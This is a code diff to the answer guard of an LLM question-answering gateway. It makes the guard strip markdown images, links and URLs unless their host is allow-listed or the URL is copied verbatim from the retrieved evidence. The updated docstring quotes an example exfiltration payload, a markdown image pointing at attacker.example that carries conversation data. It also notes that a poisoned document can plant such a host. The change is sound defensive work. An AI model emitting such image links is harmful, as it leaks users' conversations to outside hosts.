@@ -7,9 +7,13 @@
    with every number checked; the answer's hallucination risk is ``1 - min(groundedness)``,
    and an answer above ``max_hallucination_risk`` is withheld (the caller gets an abstention).
 3. PII re-scan and markup: the final text passes the egress guard as model text: markdown
-   images and links to hosts no evidence names are stripped (an image is a request to its
-   host), then it is scanned live (and by the egress finders) and masked under the request's
-   policy, so a value from a prompt or a model's memory is masked like one from the evidence.
+   images, links and bare URLs are stripped unless their host is allow-listed
+   (``HQG_GUARDS__ALLOWED_LINK_HOSTS``, sub-domains included) or the URL is copied verbatim
+   from the evidence (an image is a request to its host, and a URL the model composed can
+   carry the conversation out: ``![x](https://attacker.example/?d=…)``, even to a host a
+   poisoned document named); then it is scanned live (and by the egress finders) and masked
+   under the request's policy, so a value from a prompt or a model's memory is masked like one
+   from the evidence.
 """
 
 from __future__ import annotations
@@ -22,7 +26,7 @@ from gateway.ask.grounding import support
 from gateway.ask.langchain_model import ABSTAIN_PHRASE
 from gateway.ask.models import Citation, SentenceCheck
 from gateway.ask.text import sentences, split_answer, terms
-from gateway.egress import EgressGuard, hosts_in, strip_foreign_links
+from gateway.egress import EgressGuard, strip_foreign_links, urls_in
 from privacy.detector import PiiDetector
 from retrieval.evidence import Evidence
 
@@ -56,10 +60,11 @@ def guard_answer(
     max_hallucination_risk: float,
     detector: PiiDetector,
     egress: EgressGuard,
+    allowed_link_hosts: frozenset[str] = frozenset(),
 ) -> GuardedAnswer:
     """Check ``draft`` against ``evidence``; see the module docstring for the rules."""
-    hosts = hosts_in(text for item in evidence for text in (item.text, item.source))
-    draft = strip_foreign_links(draft, allowed_hosts=hosts)
+    urls = urls_in(text for item in evidence for text in (item.text, item.source))
+    draft = strip_foreign_links(draft, allowed_hosts=allowed_link_hosts, allowed_urls=urls)
     parsed = [_parse(s, len(evidence)) for s in split_answer(draft)]
     stripped = sum(p.stripped for p in parsed)
     if not parsed or ABSTAIN_PHRASE.lower().rstrip(".") in draft.lower():
@@ -69,7 +74,10 @@ def guard_answer(
     if risk > max_hallucination_risk:
         return _abstain(stripped=stripped, hallucination=risk, checks=checks)
     answer = egress.model_text(
-        " ".join(p.text for p in parsed), detector=detector.detect, allowed_hosts=hosts
+        " ".join(p.text for p in parsed),
+        detector=detector.detect,
+        allowed_hosts=allowed_link_hosts,
+        allowed_urls=urls,
     )
     return GuardedAnswer(
         text=answer.text,
